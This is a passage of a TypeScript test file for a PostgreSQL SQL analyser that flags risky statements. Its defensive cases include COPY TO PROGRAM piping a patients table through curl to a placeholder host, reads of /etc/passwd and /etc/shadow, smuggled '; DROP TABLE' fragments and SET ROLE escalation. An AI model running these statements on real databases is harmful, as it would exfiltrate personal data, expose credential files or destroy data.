// The SQL analyser against PostgreSQL's own parser: statements in, guardrail facts out (kinds, relations, columns,
// functions, guard flags, settings), CTE scoping, syntax errors with character positions, hostile input, and the
// LRU parse cache. Rules that judge these facts are covered by policy-rules.test.ts.
import fc from 'fast-check';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import type {
  GuardFlags,
  ParseResult,
  SettingChange,
  StatementFacts,
  StatementKind,
} from '../../src/policy/facts.js';
import { MAX_CACHED_TEXT_BYTES, SqlParseCache } from '../../src/policy/parse-cache.js';
import {
  analyzeSql,
  isTransientFailure,
  loadSqlParser,
  statementFactsOf,
} from '../../src/policy/sql-analyze.js';

beforeAll(async () => {
  // Twice, concurrently: loading is idempotent.
  await Promise.all([loadSqlParser(), loadSqlParser()]);
});

function analyze(sql: string): readonly StatementFacts[] {
  const result = analyzeSql(sql);
  if (!result.ok) throw new Error(`expected ${JSON.stringify(sql)} to parse: ${result.error.message}`);
  return result.statements;
}

function only(sql: string): StatementFacts {
  const statements = analyze(sql);
  expect(statements).toHaveLength(1);
  return statements[0];
}

function failureOf(sql: string): { message: string; position: number } {
  const result = analyzeSql(sql);
  if (result.ok) throw new Error(`expected ${JSON.stringify(sql)} to fail`);
  return result.error;
}

/** 'patients', 's.t', 'patients p' (alias), '>s.t x' (written). Sorted, as the order of the walk is not the point. */
function relationsOf(f: StatementFacts): string[] {
  return f.relations
    .map(
      (r) =>
        `${r.target ? '>' : ''}${r.schema === null ? '' : r.schema + '.'}${r.name}${r.alias ? ' ' + r.alias : ''}`,
    )
    .sort();
}

/** 'p.ssn', '*', 'public.patients.ssn'. */
function columnsOf(f: StatementFacts): string[] {
  return f.columns.map((c) => [...c.qualifier, c.name].join('.')).sort();
}

/** The predicate columns, written like columnsOf. */
function predicatesOf(f: StatementFacts): string[] {
  return f.predicateColumns.map((c) => [...c.qualifier, c.name].join('.')).sort();
}

/** The failable columns, written like columnsOf. */
function failablesOf(f: StatementFacts): string[] {
  return f.failableColumns.map((c) => [...c.qualifier, c.name].join('.')).sort();
}

function functionsOf(f: StatementFacts): string[] {
  return f.functions.map((x) => (x.schema === null ? x.name : `${x.schema}.${x.name}`)).sort();
}

function guardsOf(f: StatementFacts): string[] {
  return (Object.keys(f.guard) as (keyof GuardFlags)[]).filter((k) => f.guard[k]).sort();
}

interface Case {
  sql: string;
  kinds: [StatementKind, ...StatementKind[]];
  relations?: string[];
  columns?: string[];
  /** The columns that filter, order, group or compare (predicateColumns). */
  predicates?: string[];
  /** The columns computed with by constructs that may fail (failableColumns); asserted only when given. */
  failables?: string[];
  functions?: string[];
  guard?: (keyof GuardFlags)[];
  setting?: SettingChange | null;
  command?: string;
}

// Every case asserts kinds (own first), relations, columns, predicate columns, functions and guard flags exactly:
// left out means none.
const CASES: Case[] = [
  // ---- reads ----
  { sql: 'SELECT * FROM patients', kinds: ['select'], relations: ['patients'], columns: ['*'] },
  {
    sql: 'SELECT p.ssn, p.* FROM public.patients p WHERE p.id = $1',
    kinds: ['select'],
    relations: ['public.patients p'],
    columns: ['p.*', 'p.id', 'p.ssn'],
    predicates: ['p.id'],
  },
  {
    sql: 'SELECT public.patients.ssn FROM public.patients',
    kinds: ['select'],
    relations: ['public.patients'],
    columns: ['public.patients.ssn'],
  },
  {
    sql: 'SELECT count(*), doctor FROM visits GROUP BY doctor HAVING max(cost) > (SELECT avg(cost) FROM billing) ORDER BY 2',
    kinds: ['select'],
    relations: ['billing', 'visits'],
    columns: ['cost', 'doctor'],
    predicates: ['cost', 'doctor'],
    functions: ['avg', 'count', 'max'],
  },
  {
    sql:
      'SELECT name, (SELECT max(v.at) FROM visits v WHERE v.pid = p.id) FROM patients p ' +
      'WHERE p.id IN (SELECT pid FROM labs WHERE EXISTS (SELECT 1 FROM orders o WHERE o.lab = labs.id))',
    kinds: ['select'],
    relations: ['labs', 'orders o', 'patients p', 'visits v'],
    columns: ['labs.id', 'name', 'o.lab', 'p.id', 'pid', 'v.at', 'v.pid'],
    // max() returns whichever value compares highest.
    predicates: ['labs.id', 'o.lab', 'p.id', 'pid', 'v.at', 'v.pid'],
    functions: ['max'],
  },
  {
    sql: 'SELECT * FROM a JOIN b USING (id) LEFT JOIN LATERAL (SELECT * FROM c WHERE c.x = a.x) l ON true',
    kinds: ['select'],
    relations: ['a', 'b', 'c'],
    columns: ['*', 'a.x', 'c.x', 'id'],
    predicates: ['a.x', 'c.x', 'id'],
  },
  {
    sql: 'SELECT * FROM a JOIN b ON a.id = b.aid CROSS JOIN LATERAL unnest(b.tags) t',
    kinds: ['select'],
    relations: ['a', 'b'],
    columns: ['*', 'a.id', 'b.aid', 'b.tags'],
    predicates: ['a.id', 'b.aid'],
    functions: ['unnest'],
  },
  {
    sql: "SELECT v.x FROM patients NATURAL JOIN (VALUES ('123-45-6789')) v(ssn)",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['*', 'v.x'],
    predicates: ['*'],
  },
  { sql: 'TABLE patients', kinds: ['select'], relations: ['patients'], columns: ['*'] },
  {
    sql: 'SELECT id FROM a UNION SELECT id FROM b INTERSECT SELECT id FROM c EXCEPT ALL SELECT id FROM d',
    kinds: ['select'],
    relations: ['a', 'b', 'c', 'd'],
    columns: ['id'],
    // UNION, INTERSECT and EXCEPT (ALL or not) match rows: every output column is compared.
    predicates: ['id'],
  },
  { sql: "VALUES (1, 'x'), (2, lower('Y'))", kinds: ['select'], functions: ['lower'] },
  {
    sql: 'SELECT rank() OVER w, sum(x) FILTER (WHERE y) OVER (PARTITION BY z) FROM t WINDOW w AS (ORDER BY q)',
    kinds: ['select'],
    relations: ['t'],
    columns: ['q', 'x', 'y', 'z'],
    predicates: ['q', 'y', 'z'],
    functions: ['rank', 'sum'],
  },
  {
    sql: "SELECT CASE WHEN a THEN ARRAY[b] ELSE ROW(c, d) END, string_agg(e, ',' ORDER BY f) FROM t",
    kinds: ['select'],
    relations: ['t'],
    columns: ['a', 'b', 'c', 'd', 'e', 'f'],
    predicates: ['a', 'f'],
    functions: ['string_agg'],
  },
  {
    sql: 'SELECT * FROM pg_catalog.generate_series(1, 3) g, ROWS FROM (f(1), s.g(2))',
    kinds: ['select'],
    columns: ['*'],
    functions: ['f', 'pg_catalog.generate_series', 's.g'],
  },
  {
    sql: "SELECT pg_catalog.pg_read_file('/etc/passwd'), lo_import('/etc/shadow')",
    kinds: ['select'],
    functions: ['lo_import', 'pg_catalog.pg_read_file'],
  },
  {
    // coalesce() is its own node (CoalesceExpr), not a function call.
    sql: 'SELECT * FROM t WHERE a::text = ANY(ARRAY(SELECT b FROM u)) ORDER BY coalesce(c, lower(d)) LIMIT 5',
    kinds: ['select'],
    relations: ['t', 'u'],
    columns: ['*', 'a', 'b', 'c', 'd'],
    predicates: ['a', 'b', 'c', 'd'],
    functions: ['lower'],
  },
  {
    sql: 'SELECT "Patients"."SSN" FROM "Patients", Patients',
    kinds: ['select'],
    relations: ['Patients', 'patients'],
    columns: ['Patients.SSN'],
  },
  {
    sql: 'SELECT U&"p\\0061tients".x FROM U&"p\\0061tients"',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['patients.x'],
  },
  // FOR UPDATE OF names a FROM item (here an alias), not another relation.
  {
    sql: 'SELECT * FROM patients p JOIN visits v ON v.pid = p.id FOR UPDATE OF p SKIP LOCKED',
    kinds: ['select'],
    relations: ['patients p', 'visits v'],
    columns: ['*', 'p.id', 'v.pid'],
    predicates: ['p.id', 'v.pid'],
  },
  { sql: 'SELECT 1 -- ; DROP TABLE x', kinds: ['select'] },
  { sql: 'SELECT 1 /* ; DROP TABLE x */ FROM t', kinds: ['select'], relations: ['t'] },
  { sql: 'SELECT $tag$ ; DROP TABLE x; $tag$ AS body', kinds: ['select'] },
  { sql: "SELECT $$it's$$, E'\\' ; DROP TABLE x'", kinds: ['select'] },

  // ---- CTE scoping ----
  { sql: 'WITH patients AS (SELECT 1 AS x) SELECT * FROM patients', kinds: ['select'], columns: ['*'] },
  {
    sql: 'WITH patients AS (SELECT 1) SELECT * FROM public.patients',
    kinds: ['select'],
    relations: ['public.patients'],
    columns: ['*'],
  },
  // Without RECURSIVE a CTE does not see itself: the inner `t` is the table.
  { sql: 'WITH t AS (SELECT * FROM t) SELECT * FROM t', kinds: ['select'], relations: ['t'], columns: ['*'] },
  {
    sql: 'WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b',
    kinds: ['select'],
    columns: ['*'],
  },
  // ... nor the ones after it.
  {
    sql: 'WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a',
    kinds: ['select'],
    relations: ['b'],
    columns: ['*'],
  },
  {
    sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r',
    kinds: ['select'],
    columns: ['*', 'n'],
    predicates: ['n'],
  },
  {
    sql: 'WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a',
    kinds: ['select'],
    columns: ['*'],
  },
  {
    sql: '(WITH c AS (SELECT 1) SELECT * FROM c) UNION ALL SELECT * FROM c',
    kinds: ['select'],
    relations: ['c'],
    columns: ['*'],
  },
  {
    sql: 'WITH c AS (SELECT 1) SELECT * FROM t WHERE EXISTS (SELECT 1 FROM c JOIN d ON true)',
    kinds: ['select'],
    relations: ['d', 't'],
    columns: ['*'],
  },
  {
    sql: 'SELECT * FROM (WITH c AS (SELECT 1) SELECT * FROM c) s, c',
    kinds: ['select'],
    relations: ['c'],
    columns: ['*'],
  },
  {
    sql: 'WITH d AS (DELETE FROM patients RETURNING *) SELECT * FROM d',
    kinds: ['select', 'delete'],
    relations: ['>patients'],
    columns: ['*'],
    guard: ['deleteWithoutWhere'],
  },
  {
    sql: 'WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) SELECT id FROM u',
    kinds: ['select', 'update'],
    relations: ['>t'],
    columns: ['id', 't.a'],
    predicates: ['id'],
  },
  // A DML target is never a CTE reference, whatever the WITH says.
  {
    sql: 'WITH patients AS (SELECT 1) DELETE FROM patients WHERE id = 1',
    kinds: ['delete', 'select'],
    relations: ['>patients'],
    columns: ['id'],
    predicates: ['id'],
  },

  // ---- writes ----
  {
    sql: "INSERT INTO patients (id, ssn) VALUES (1, '123-45-6789')",
    kinds: ['insert'],
    relations: ['>patients'],
    columns: ['patients.id', 'patients.ssn'],
  },
  {
    sql: 'INSERT INTO public.patients VALUES (1)',
    kinds: ['insert'],
    relations: ['>public.patients'],
    columns: ['patients.*'],
  },
  { sql: 'INSERT INTO t DEFAULT VALUES', kinds: ['insert'], relations: ['>t'], columns: ['t.*'] },
  {
    sql: 'WITH src AS (SELECT * FROM staging) INSERT INTO patients (id, name) SELECT id, name FROM src',
    kinds: ['insert', 'select'],
    relations: ['>patients', 'staging'],
    columns: ['*', 'id', 'name', 'patients.id', 'patients.name'],
  },
  {
    sql: 'INSERT INTO s.t AS x (a, b) VALUES (1, 2) ON CONFLICT (a) DO UPDATE SET b = excluded.b WHERE x.c > 0 RETURNING *',
    kinds: ['insert', 'update'],
    relations: ['>s.t x'],
    columns: ['*', 'excluded.b', 'x.a', 'x.b', 'x.c'],
    predicates: ['x.c'],
  },
  {
    sql: 'INSERT INTO t (a) VALUES (1) ON CONFLICT (k) DO NOTHING',
    kinds: ['insert'],
    relations: ['>t'],
    columns: ['t.a', 't.k'],
  },
  {
    sql: 'UPDATE patients SET name = upper(name) WHERE id = 1 RETURNING ssn',
    kinds: ['update'],
    relations: ['>patients'],
    columns: ['id', 'name', 'patients.name', 'ssn'],
    predicates: ['id'],
    functions: ['upper'],
  },
  {
    sql: 'UPDATE patients p SET flag = true FROM visits v WHERE v.pid = p.id',
    kinds: ['update'],
    relations: ['>patients p', 'visits v'],
    columns: ['p.flag', 'p.id', 'v.pid'],
    predicates: ['p.id', 'v.pid'],
  },
  {
    sql: 'UPDATE t SET (a, b) = (SELECT x, y FROM u) WHERE id = 1',
    kinds: ['update', 'select'],
    relations: ['>t', 'u'],
    columns: ['id', 't.a', 't.b', 'x', 'y'],
    predicates: ['id'],
  },
  {
    sql: 'UPDATE patients SET consent = false',
    kinds: ['update'],
    relations: ['>patients'],
    columns: ['patients.consent'],
    guard: ['updateWithoutWhere'],
  },
  {
    sql: 'UPDATE patients SET consent = false WHERE true',
    kinds: ['update'],
    relations: ['>patients'],
    columns: ['patients.consent'],
    guard: ['updateWithoutWhere'],
  },
  {
    sql: 'DELETE FROM visits WHERE 1 = 1',
    kinds: ['delete'],
    relations: ['>visits'],
    guard: ['deleteWithoutWhere'],
  },
  { sql: 'DELETE FROM visits WHERE CURRENT OF c', kinds: ['delete'], relations: ['>visits'] },
  {
    sql: "DELETE FROM visits v USING patients p WHERE v.pid = p.id AND p.ssn = '1'",
    kinds: ['delete'],
    relations: ['>visits v', 'patients p'],
    columns: ['p.id', 'p.ssn', 'v.pid'],
    predicates: ['p.id', 'p.ssn', 'v.pid'],
  },
  {
    sql:
      'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE ' +
      'WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT (id, a) VALUES (s.id, s.a)',
    kinds: ['merge', 'delete', 'update', 'insert'],
    relations: ['>t', 's'],
    columns: ['s.a', 's.gone', 's.id', 't.a', 't.id'],
    predicates: ['s.gone', 's.id', 't.id'],
  },
  {
    sql: 'MERGE INTO t AS x USING (SELECT * FROM s) AS y ON x.id = y.id WHEN NOT MATCHED THEN INSERT VALUES (y.id)',
    kinds: ['merge', 'select', 'insert'],
    relations: ['>t x', 's'],
    columns: ['*', 'x.*', 'x.id', 'y.id'],
    // y.id is the id behind the subquery's star.
    predicates: ['id', 'x.id', 'y.id'],
  },

  // ---- COPY ----
  {
    sql: 'COPY patients TO STDOUT',
    kinds: ['copy_out'],
    relations: ['patients'],
    columns: ['patients.*'],
  },
  {
    sql: 'COPY patients (id, name) FROM STDIN',
    kinds: ['copy_in'],
    relations: ['>patients'],
    columns: ['patients.id', 'patients.name'],
  },
  {
    sql: "COPY patients FROM '/tmp/patients.csv' WITH (FORMAT csv)",
    kinds: ['copy_in'],
    relations: ['>patients'],
    columns: ['patients.*'],
    guard: ['copyFile'],
  },
  {
    sql: "COPY patients TO PROGRAM 'curl -d @- https://example.invalid'",
    kinds: ['copy_out'],
    relations: ['patients'],
    columns: ['patients.*'],
    guard: ['copyProgram'],
  },
  {
    sql: 'COPY (SELECT ssn FROM patients) TO STDOUT',
    kinds: ['copy_out', 'select'],
    relations: ['patients'],
    columns: ['ssn'],
  },

  // ---- utility wrappers: the inner statement counts ----
  {
    sql: 'EXPLAIN ANALYZE DELETE FROM t WHERE id = 1',
    kinds: ['utility', 'delete'],
    relations: ['>t'],
    columns: ['id'],
    predicates: ['id'],
  },
  {
    sql: 'EXPLAIN DELETE FROM t',
    kinds: ['utility', 'delete'],
    relations: ['>t'],
    guard: ['deleteWithoutWhere'],
  },
  {
    sql: 'EXPLAIN (COSTS off) SELECT * FROM t',
    kinds: ['utility', 'select'],
    relations: ['t'],
    columns: ['*'],
  },
  {
    sql: 'DECLARE c CURSOR WITH HOLD FOR SELECT ssn FROM patients',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['ssn'],
  },
  { sql: 'FETCH 10 FROM c', kinds: ['select'], command: 'FetchStmt' },
  { sql: 'CLOSE c', kinds: ['select'], command: 'ClosePortalStmt' },
  {
    sql: 'PREPARE p (int) AS UPDATE t SET a = $1 WHERE id = $2',
    kinds: ['utility', 'update'],
    relations: ['>t'],
    columns: ['id', 't.a'],
    predicates: ['id'],
  },
  { sql: 'EXECUTE p(1, 2)', kinds: ['utility'] },
  { sql: 'DEALLOCATE ALL', kinds: ['utility'] },
  { sql: 'DO $$ BEGIN DELETE FROM t; END $$', kinds: ['utility'], guard: ['doBlock'] },
  { sql: 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', kinds: ['utility'], relations: ['>t'] },
  { sql: 'VACUUM (ANALYZE) patients', kinds: ['utility'], relations: ['patients'] },
  { sql: "NOTIFY ch, 'x'", kinds: ['utility'] },
  { sql: 'DISCARD ALL', kinds: ['utility'] },
  { sql: 'CALL s.proc(now())', kinds: ['call'], functions: ['now', 's.proc'] },
  { sql: 'BEGIN ISOLATION LEVEL SERIALIZABLE', kinds: ['transaction'] },
  { sql: 'COMMIT', kinds: ['transaction'] },

  // ---- DDL and guarded statements ----
  // DDL that names objects as plain name lists still reports the relations (and functions) it changes.
  { sql: 'DROP TABLE patients', kinds: ['ddl'], relations: ['>patients'], guard: ['ddl'] },
  {
    sql: 'DROP TABLE IF EXISTS vault.keys, v',
    kinds: ['ddl'],
    relations: ['>vault.keys', '>v'],
    guard: ['ddl'],
  },
  { sql: 'DROP SCHEMA vault CASCADE', kinds: ['ddl'], relations: ['>vault.*'], guard: ['ddl'] },
  {
    sql: "COMMENT ON COLUMN public.patients.ssn IS 'x'",
    kinds: ['ddl'],
    relations: ['>public.patients'],
    columns: ['patients.ssn'],
    guard: ['ddl'],
  },
  { sql: "COMMENT ON TABLE vault.keys IS 'x'", kinds: ['ddl'], relations: ['>vault.keys'], guard: ['ddl'] },
  {
    sql: 'GRANT SELECT ON ALL TABLES IN SCHEMA vault TO x',
    kinds: ['ddl'],
    relations: ['>vault.*'],
    guard: ['ddl'],
  },
  { sql: 'DROP FUNCTION purge(int)', kinds: ['ddl'], functions: ['purge'], guard: ['ddl'] },
  {
    sql: 'TRUNCATE a, s.b',
    kinds: ['ddl'],
    relations: ['>a', '>s.b'],
    guard: ['ddl', 'truncate'],
  },
  {
    sql: "ALTER SYSTEM SET work_mem = '1GB'",
    kinds: ['ddl', 'set'],
    guard: ['alterSystem', 'ddl'],
    setting: null,
  },
  {
    sql: 'CREATE TABLE x AS SELECT * FROM patients',
    kinds: ['ddl', 'select'],
    relations: ['patients', 'x'],
    columns: ['*'],
    guard: ['ddl'],
  },
  {
    sql: 'SELECT * INTO x FROM patients',
    kinds: ['ddl', 'select'],
    relations: ['patients', 'x'],
    columns: ['*'],
    guard: ['ddl'],
  },
  {
    sql: 'CREATE VIEW v AS SELECT ssn FROM patients',
    kinds: ['ddl', 'select'],
    relations: ['patients', 'v'],
    columns: ['ssn'],
    guard: ['ddl'],
  },
  { sql: 'GRANT SELECT ON patients TO bob', kinds: ['ddl'], relations: ['patients'], guard: ['ddl'] },
  {
    sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = admin AS 'SELECT 1'",
    kinds: ['ddl', 'set'],
    guard: ['ddl', 'setRole'],
  },
  { sql: "SELECT set_config('role', 'admin', false)", kinds: ['select'], functions: ['set_config'] },

  // ---- SET / RESET / SHOW ----
  {
    sql: 'SET ROLE admin',
    kinds: ['set'],
    guard: ['setRole'],
    setting: { name: 'role', value: 'admin', local: false, reset: false },
  },
  {
    sql: 'SET "Role" TO \'admin\'',
    kinds: ['set'],
    guard: ['setRole'],
    setting: { name: 'role', value: 'admin', local: false, reset: false },
  },
  {
    sql: 'RESET ROLE',
    kinds: ['set'],
    guard: ['setRole'],
    setting: { name: 'role', value: null, local: false, reset: true },
  },
  {
    sql: "SET SESSION AUTHORIZATION 'postgres'",
    kinds: ['set'],
    guard: ['setRole'],
    setting: { name: 'session_authorization', value: 'postgres', local: false, reset: false },
  },
  {
    sql: 'SET SESSION AUTHORIZATION DEFAULT',
    kinds: ['set'],
    guard: ['setRole'],
    setting: { name: 'session_authorization', value: null, local: false, reset: true },
  },
  {
    sql: 'RESET SESSION AUTHORIZATION',
    kinds: ['set'],
    guard: ['setRole'],
    setting: { name: 'session_authorization', value: null, local: false, reset: true },
  },
  {
    sql: "SET LOCAL pgwarden.actor = 'eyJhbGciOi.x.y'",
    kinds: ['set'],
    setting: { name: 'pgwarden.actor', value: 'eyJhbGciOi.x.y', local: true, reset: false },
  },
  {
    sql: 'SET "PGWARDEN".Actor TO \'x\'',
    kinds: ['set'],
    setting: { name: 'pgwarden.actor', value: 'x', local: false, reset: false },
  },
  {
    sql: 'SET search_path = app, public',
    kinds: ['set'],
    setting: { name: 'search_path', value: null, local: false, reset: false },
  },
  {
    sql: 'SET statement_timeout = 0',
    kinds: ['set'],
    setting: { name: 'statement_timeout', value: '0', local: false, reset: false },
  },
  {
    sql: 'SET SESSION random_page_cost = -1.5',
    kinds: ['set'],
    setting: { name: 'random_page_cost', value: '-1.5', local: false, reset: false },
  },
  {
    sql: 'SET enable_seqscan TO on',
    kinds: ['set'],
    setting: { name: 'enable_seqscan', value: 'on', local: false, reset: false },
  },
  {
    sql: "SET TIME ZONE 'UTC'",
    kinds: ['set'],
    setting: { name: 'timezone', value: 'UTC', local: false, reset: false },
  },
  {
    sql: 'SET work_mem TO DEFAULT',
    kinds: ['set'],
    setting: { name: 'work_mem', value: null, local: false, reset: true },
  },
  {
    sql: 'RESET Search_Path',
    kinds: ['set'],
    setting: { name: 'search_path', value: null, local: false, reset: true },
  },
  { sql: 'RESET ALL', kinds: ['set'], setting: { name: 'all', value: null, local: false, reset: true } },
  {
    sql: 'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE',
    kinds: ['set'],
    setting: { name: 'transaction', value: null, local: false, reset: false },
  },
  { sql: 'SHOW search_path', kinds: ['set'], setting: null, command: 'VariableShowStmt' },
  // ---- predicate columns: what filters, orders or groups rows (masking refuses these for masked columns) ----
  {
    sql: "SELECT name FROM patients WHERE ssn LIKE '123%'",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['name', 'ssn'],
    predicates: ['ssn'],
  },
  // Select-list expressions are outputs; but a comparison anywhere answers a guess about its operands: a predicate.
  {
    sql: 'SELECT name, ssn, lower(email) FROM patients',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['email', 'name', 'ssn'],
    functions: ['lower'],
  },
  {
    sql: "SELECT ssn = '1', ssn LIKE '1%' AS m, ssn IN ('1'), ssn IS NULL FROM patients",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['ssn'],
    predicates: ['ssn'],
  },
  // Arithmetic and string operators compute, they do not compare.
  {
    sql: "SELECT ssn || 'x', a + b FROM patients",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['ssn', 'a', 'b'],
  },
  {
    sql: "SELECT 1 / (ssn = '123-45-6789')::int, ssn ~ '^1' AND true FROM patients",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['ssn'],
    predicates: ['ssn'],
  },
  // A CASE chooses its value by a condition: the condition infers, in the select list too; its results do not.
  {
    sql: "SELECT CASE WHEN ssn LIKE '1%' THEN 1 ELSE 0 END FROM patients",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['ssn'],
    predicates: ['ssn'],
  },
  {
    sql: "SELECT CASE zip WHEN '10001' THEN name ELSE email END FROM patients",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['email', 'name', 'zip'],
    predicates: ['zip'],
  },
  // ORDER BY, also by position or by an output name (the alias, or the name PostgreSQL gives an expression).
  {
    sql: 'SELECT name FROM patients ORDER BY dob DESC NULLS LAST',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['dob', 'name'],
    predicates: ['dob'],
  },
  {
    sql: 'SELECT ssn FROM patients ORDER BY 1',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['ssn'],
    predicates: ['ssn'],
  },
  {
    sql: 'SELECT lower(ssn) AS k, name FROM patients ORDER BY k',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['k', 'name', 'ssn'],
    predicates: ['k', 'ssn'],
    functions: ['lower'],
  },
  // A star before the position hides where it falls: the star and everything after it count.
  {
    sql: 'SELECT * FROM patients ORDER BY 3',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['*'],
    predicates: ['*'],
  },
  {
    sql: 'SELECT id, p.*, name FROM patients p ORDER BY 1, 2',
    kinds: ['select'],
    relations: ['patients p'],
    columns: ['id', 'name', 'p.*'],
    predicates: ['id', 'name', 'p.*'],
  },
  {
    sql: 'SELECT lower(ssn), name FROM patients ORDER BY lower',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['lower', 'name', 'ssn'],
    predicates: ['lower', 'ssn'],
    functions: ['lower'],
  },
  {
    sql: "SELECT (ssn || '')::text FROM patients ORDER BY text",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['ssn', 'text'],
    predicates: ['ssn', 'text'],
  },
  // GROUP BY (positions and grouping sets too), HAVING.
  {
    sql: 'SELECT zip, count(*) FROM patients GROUP BY zip HAVING count(*) > 1',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['zip'],
    predicates: ['zip'],
    functions: ['count'],
  },
  {
    sql: 'SELECT left(zip, 3), count(*) FROM patients GROUP BY 1',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['zip'],
    predicates: ['zip'],
    functions: ['count', 'left'],
  },
  {
    sql: 'SELECT zip, dob, count(*) FROM patients GROUP BY GROUPING SETS ((zip), (dob)), ROLLUP (1), CUBE (diagnosis)',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['diagnosis', 'dob', 'zip'],
    predicates: ['diagnosis', 'dob', 'zip'],
    functions: ['count'],
  },
  {
    sql: "SELECT diagnosis FROM patients GROUP BY diagnosis HAVING max(dob) > '2000-01-01'",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['diagnosis', 'dob'],
    predicates: ['diagnosis', 'dob'],
    functions: ['max'],
  },
  // A parenthesised list inside ROLLUP is a row of items, each resolved like a GROUP BY item.
  {
    sql: 'SELECT left(ssn, 3), zip, count(*) FROM patients GROUP BY ROLLUP ((1, zip))',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['ssn', 'zip'],
    predicates: ['ssn', 'zip'],
    functions: ['count', 'left'],
  },
  // Window PARTITION BY / ORDER BY, in OVER and in WINDOW; the window function's argument is an output.
  {
    sql: 'SELECT rank() OVER (PARTITION BY zip ORDER BY dob), lag(ssn) OVER (ORDER BY id) FROM patients',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['dob', 'id', 'ssn', 'zip'],
    predicates: ['dob', 'id', 'zip'],
    functions: ['lag', 'rank'],
  },
  {
    sql: 'SELECT sum(1) OVER w FROM patients WINDOW w AS (PARTITION BY diagnosis ORDER BY ssn)',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['diagnosis', 'ssn'],
    predicates: ['diagnosis', 'ssn'],
    functions: ['sum'],
  },
  // DISTINCT ON orders and compares; a plain DISTINCT compares every output column.
  {
    sql: 'SELECT DISTINCT ON (ssn) name FROM patients',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['name', 'ssn'],
    predicates: ['ssn'],
  },
  {
    sql: 'SELECT DISTINCT name FROM patients',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['name'],
    predicates: ['name'],
  },
  // LIMIT / OFFSET expressions, searched to the bottom.
  {
    sql: "SELECT name FROM patients LIMIT (SELECT count(*) FROM visits WHERE visits.code = 'x') OFFSET (SELECT min(id) FROM labs)",
    kinds: ['select'],
    relations: ['labs', 'patients', 'visits'],
    columns: ['id', 'name', 'visits.code'],
    predicates: ['id', 'visits.code'],
    functions: ['count', 'min'],
  },
  // Aggregate FILTER and ORDER BY; WITHIN GROUP (ORDER BY) sorts to pick the value returned, as max() does.
  {
    sql: "SELECT count(*) FILTER (WHERE ssn LIKE '9%'), array_agg(name ORDER BY dob), percentile_disc(0.5) WITHIN GROUP (ORDER BY zip) FROM patients",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['dob', 'name', 'ssn', 'zip'],
    predicates: ['dob', 'ssn', 'zip'],
    functions: ['array_agg', 'count', 'percentile_disc'],
  },
  // JOIN ... ON, USING, NATURAL (its columns unnamed), LATERAL.
  {
    sql: 'SELECT p.name FROM patients p JOIN visits v ON v.pid = p.id AND p.ssn = v.ssn',
    kinds: ['select'],
    relations: ['patients p', 'visits v'],
    columns: ['p.id', 'p.name', 'p.ssn', 'v.pid', 'v.ssn'],
    predicates: ['p.id', 'p.ssn', 'v.pid', 'v.ssn'],
  },
  {
    sql: 'SELECT name FROM patients JOIN visits USING (pid, ssn)',
    kinds: ['select'],
    relations: ['patients', 'visits'],
    columns: ['name', 'pid', 'ssn'],
    predicates: ['pid', 'ssn'],
  },
  {
    sql: 'SELECT name FROM patients NATURAL LEFT JOIN visits',
    kinds: ['select'],
    relations: ['patients', 'visits'],
    columns: ['*', 'name'],
    predicates: ['*'],
  },
  {
    sql: 'SELECT x.n FROM patients p, LATERAL (SELECT p.name AS n FROM visits v WHERE v.ssn = p.ssn) x',
    kinds: ['select'],
    relations: ['patients p', 'visits v'],
    columns: ['p.name', 'p.ssn', 'v.ssn', 'x.n'],
    predicates: ['p.ssn', 'v.ssn'],
  },
  // Set operations: every branch, and an ORDER BY of the whole sorts each branch's column at that position.
  {
    sql: "SELECT name FROM patients WHERE id IN (SELECT pid FROM visits WHERE code = 'x') UNION SELECT name FROM staff WHERE dob < now() ORDER BY 1",
    kinds: ['select'],
    relations: ['patients', 'staff', 'visits'],
    columns: ['code', 'dob', 'id', 'name', 'pid'],
    predicates: ['code', 'dob', 'id', 'name', 'pid'],
    functions: ['now'],
  },
  {
    sql: 'SELECT ssn FROM patients UNION ALL SELECT zip FROM archive ORDER BY ssn',
    kinds: ['select'],
    relations: ['archive', 'patients'],
    columns: ['ssn', 'zip'],
    predicates: ['ssn', 'zip'],
  },
  {
    sql: 'SELECT ssn FROM patients UNION SELECT zip FROM archive',
    kinds: ['select'],
    relations: ['archive', 'patients'],
    columns: ['ssn', 'zip'],
    predicates: ['ssn', 'zip'],
  },
  // Where a star hides positions, from the star on counts (in a branch without one, everything).
  {
    sql: 'SELECT *, lower(ssn) AS k FROM a UNION ALL SELECT x, y, z FROM b ORDER BY k',
    kinds: ['select'],
    relations: ['a', 'b'],
